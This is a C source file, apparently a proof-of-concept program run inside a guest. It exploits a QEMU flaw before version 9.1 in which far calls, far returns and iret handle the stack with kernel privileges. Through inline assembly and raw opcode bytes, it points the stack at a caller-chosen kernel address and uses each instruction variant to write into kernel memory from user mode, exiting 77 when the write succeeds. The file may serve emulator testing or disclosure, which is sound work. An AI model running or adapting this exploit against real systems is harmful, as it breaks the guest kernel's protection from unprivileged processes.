/* A program that reaches for the kernel's memory by far calls and returns, whose stack QEMU before 9.1 moves with the kernel's rights. For guests only.

   Its argument says how: `call`, `page` (a call whose bytes lie on two pages), `return`, `iret` at ADDRESS, by i386 code; `long` calls at it by x86_64 code. 77 is the end of a call that wrote there. `own`: on its own
   stack, which is nobody's business. */

#include "attack.h"

static u32 number(const char *text, int high)
{
	u64 n = 0;

	for (; *text; text++)
		n = n * 16 + (u64)(*text <= '9' ? *text - '0' : *text - 'a' + 10);
	return (u32)(high ? n >> 32 : n);
}

static struct {
	u32 to, to_high;
	unsigned short segment;
} pointer;

/* The same bytes for both kinds of code: exit(77). */
asm(".text\n.globl won\nwon:\n\tmov $1, %eax\n\tmov $77, %ebx\n\tint $0x80\n");
/* x86_64: mov (%ecx), %rsp; rex.w lcall *(%eax), by their bytes. */
asm(".globl wide\nwide:\n\t.byte 0x48, 0x8b, 0x21, 0x48, 0xff, 0x18\n");
void won(void);
void wide(void);

static void call(u32 at)
{
	struct {
		u32 to;
		unsigned short segment;
	} near;
	u32 cs;

	asm volatile("mov %%cs, %0" : "=r"(cs));
	near.to = (u32)won;
	near.segment = (unsigned short)cs;
	asm volatile("mov %1, %%esp\n\tlcall *(%0)" : : "a"(&near), "c"(at) : "memory");
}

static void call_long(u32 low, u32 high)
{
	static u32 stack[2];
	static struct {
		u32 to;
		unsigned short segment;
	} jump;

	stack[0] = low;
	stack[1] = high;
	pointer.to = (u32)won;
	pointer.segment = 0x33;
	jump.to = (u32)wide;
	jump.segment = 0x33;
	asm volatile("ljmp *(%0)" : : "d"(&jump), "a"(&pointer), "c"(stack) : "memory");
}

/* The call's first byte ends a page, after other instructions, and has a prefix. */
static void call_over_pages(u32 at)
{
	static const u8 code[] = { 0x90, 0x90, 0x89, 0xcc, 0x3e, 0xff, 0x18 }; /* mov %ecx, %esp; ds lcall *(%eax) */
	static struct {
		u32 to;
		unsigned short segment;
	} near;
	u8 *pages = (u8 *)sys(MMAP2, 0, 2 * PAGE, 7, 0x22, -1, 0), *to = pages + PAGE - 6;
	u32 cs, i;

	for (i = 0; i < sizeof code; i++)
		to[i] = code[i];
	asm volatile("mov %%cs, %0" : "=r"(cs));
	near.to = (u32)won;
	near.segment = (unsigned short)cs;
	asm volatile("jmp *%0" : : "d"(to), "a"(&near), "c"(at) : "memory");
}

/* A far call and both returns where they belong. */
static void own(void)
{
	asm volatile("push %%cs\n\tcall own_call\n\tpushf\n\tpush %%cs\n\tpush $own_end\n\tiret\nown_call:\n\tlret\nown_end:" : : : "memory");
}

int attack(char **arguments, char **environment)
{
	const char *at = arguments[2];

	switch (arguments[1][0]) {
	case 'c':
		call(number(at, 0));
		break;
	case 'p':
		call_over_pages(number(at, 0));
		break;
	case 'l':
		call_long(number(at, 0), number(at, 1));
		break;
	case 'r':
		asm volatile("mov %0, %%esp\n\tlret" : : "r"(number(at, 0)));
		break;
	case 'i':
		asm volatile("mov %0, %%esp\n\tiret" : : "r"(number(at, 0)));
		break;
	case 'o':
		own();
		say("came back\n");
		return 0;
	}
	return 1;
}
